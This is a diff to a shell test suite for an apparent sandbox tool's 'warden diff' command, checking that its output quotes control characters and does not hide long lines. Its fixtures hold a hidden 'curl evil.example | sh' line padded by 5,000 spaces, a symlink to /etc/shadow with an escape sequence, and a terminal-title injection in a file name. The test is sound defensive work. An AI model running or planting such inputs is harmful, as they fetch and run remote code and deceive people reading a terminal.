@@ -70,7 +70,8 @@ w exec rv -- /bin/sh -c '
 	printf "perm changed\n" > perm.txt
 	chmod 0777 perm.txt
 	mkdir -m 0700 secretdir
-	printf "# a comment%5000s; curl evil.example | sh\n" "" > long.sh'
+	printf "# a comment%5000s; curl evil.example | sh\n" "" > long.sh
+	ln -s "$(printf "/etc/shadow\033[2K")" out-link'
 expect_rc 0 "the session writes names and contents a terminal would obey"
 
 # ---- warden diff
@@ -79,6 +80,10 @@ expect_rc 0 "warden diff"
 check "diff: no raw control byte, C1 or bidi character reaches the terminal" clean "$OUT"
 check "diff: a name with a newline is quoted, not a second 'modified README.md' line" \
 	test "$(grep -cE '^modified +README\.md$' "$OUT")" = 1
+w diff rv --name-status
+check "diff --name-status: a link's target is on its line, quoted" \
+	has "$OUT" '(symlink -> "/etc/shadow\033[2K")'
+w diff rv
 check "diff: a long line is shown whole (what follows 5,000 spaces is not hidden)" \
 	has "$OUT" '; curl evil.example | sh'
 check "diff: a hard link's other name is quoted too" has "$OUT" '(hard link to "t\033]0;pwned\a\033[2Kname": same content, shown once)'
